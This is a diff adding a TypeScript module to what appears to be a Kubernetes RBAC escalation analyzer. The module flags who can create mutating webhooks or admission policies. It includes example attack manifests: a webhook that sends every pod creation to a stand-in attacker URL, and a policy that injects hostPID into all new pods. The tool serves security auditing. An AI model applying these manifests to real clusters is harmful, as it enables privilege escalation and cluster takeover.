@@ -1,0 +1,101 @@
+import { type Command, inTurn } from '../../answer/command.ts';
+import { rbacOf } from '../../rbac/rbac-of.ts';
+import { list } from '../../world/needs.ts';
+import { compareVersions, NEWEST } from '../../world/version.ts';
+import { unseen } from '../../world/world.ts';
+import { createCommand } from '../commands/commands.ts';
+import type { Ground } from '../outcomes/outcomes.ts';
+import { type Strongest, strongestAmong, strongestOf } from '../probes/strongest.ts';
+import { type Holder, type Right, rightsTo, rightsToCreate } from '../rights/holder.ts';
+import { controllerUser, POD_MAKERS } from '../writes/makers.ts';
+import { type Beyond, type BeyondWay, onlyIf } from './other-way.ts';
+
+/**
+ * Who may have objects changed as they are written makes the pods of others privileged: where admission lets such a pod through, whoever creates it.
+ * Mutation comes before Pod Security, and so is no way around it.
+ */
+export const mutation: BeyondWay = (holder, _cells, ground) => [...byWebhook(holder, ground), ...byPolicy(holder, ground)];
+
+const GROUP = 'admissionregistration.k8s.io';
+
+function byWebhook(holder: Holder, ground: Ground): Beyond[] {
+  const resource = { group: GROUP, resource: 'mutatingwebhookconfigurations', clusterScoped: true } as const;
+  const created = rightsToCreate(resource, holder, rbacOf(ground.world));
+  const changed = rightsTo({ ...resource, subresource: '', verbs: ['update', 'patch'] }, holder);
+  const isThere = ground.world.list(WEBHOOKS).length > 0;
+  const unread = unseen(ground.world, list(WEBHOOKS), 'whether there is anything that its right to change webhooks is good for');
+  const rights = [...created, ...(isThere || unread.length > 0 ? changed : [])];
+  if (rights.length === 0) return [];
+  const found = beyond('admission-webhook-mutate', 'have a webhook of its own rewrite pods as they are created', rights, ground);
+  return created.length > 0 || isThere ? found : found.map((each) => ({ ...each, strongest: onlyIf(each.strongest, unread, null) }));
+}
+
+const WEBHOOKS = 'MutatingWebhookConfiguration.admissionregistration.k8s.io';
+
+function byPolicy(holder: Holder, ground: Ground): Beyond[] {
+  // Before 1.36 the kind is there only where somebody turned it on, and then it was read.
+  const { version } = ground.world.facts;
+  if (compareVersions(version ?? NEWEST, { major: 1, minor: 36 }) < 0) return [];
+  const rbac = rbacOf(ground.world);
+  const both = ['mutatingadmissionpolicies', 'mutatingadmissionpolicybindings'].map((resource) =>
+    rightsToCreate({ group: GROUP, resource, clusterScoped: true }, holder, rbac),
+  );
+  if (both.some((rights) => rights.length === 0)) return [];
+  return beyond('map-inject', 'have a MutatingAdmissionPolicy rewrite pods as they are created', both.flat(), ground);
+}
+
+const beyond = (id: string, words: string, rights: readonly Right[], ground: Ground): Beyond[] => [
+  {
+    ...{ id, words, rights, direct: true },
+    strongest: strongestOfOthers(ground),
+    attack: id === 'map-inject' ? mapCommand() : webhookCommand(),
+  },
+];
+
+/** The strongest pod that a controller gets through in any namespace that was asked about. */
+function strongestOfOthers({ judge, namespaces }: Ground): Strongest {
+  const maker = POD_MAKERS[0];
+  return strongestAmong(
+    namespaces.map((namespace) =>
+      strongestOf(judge.trials({ maker, operation: 'CREATE' }, namespace, controllerUser('replicaset-controller'))),
+    ),
+  );
+}
+
+const PODS = { apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] };
+
+const webhookCommand = (): Command<'changes'> =>
+  createCommand({
+    apiVersion: `${GROUP}/v1`,
+    kind: 'MutatingWebhookConfiguration',
+    metadata: { name: 'whocan-escalate' },
+    webhooks: [
+      {
+        name: 'pods.whocan-escalate.example',
+        clientConfig: { url: 'https://ADDRESS-OF-THE-ATTACKER' },
+        rules: [PODS],
+        ...{ admissionReviewVersions: ['v1'], sideEffects: 'None', failurePolicy: 'Ignore' },
+      },
+    ],
+  });
+
+const mapCommand = (): Command<'changes'> | null => {
+  const policy = {
+    apiVersion: `${GROUP}/v1`,
+    kind: 'MutatingAdmissionPolicy',
+    metadata: { name: 'whocan-escalate' },
+    spec: {
+      matchConstraints: { resourceRules: [PODS] },
+      failurePolicy: 'Ignore',
+      reinvocationPolicy: 'Never',
+      mutations: [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression: 'Object{spec: Object.spec{hostPID: true}}' } }],
+    },
+  };
+  const binding = {
+    apiVersion: `${GROUP}/v1`,
+    kind: 'MutatingAdmissionPolicyBinding',
+    metadata: { name: 'whocan-escalate' },
+    spec: { policyName: 'whocan-escalate' },
+  };
+  return inTurn([createCommand(policy), createCommand(binding)]);
+};
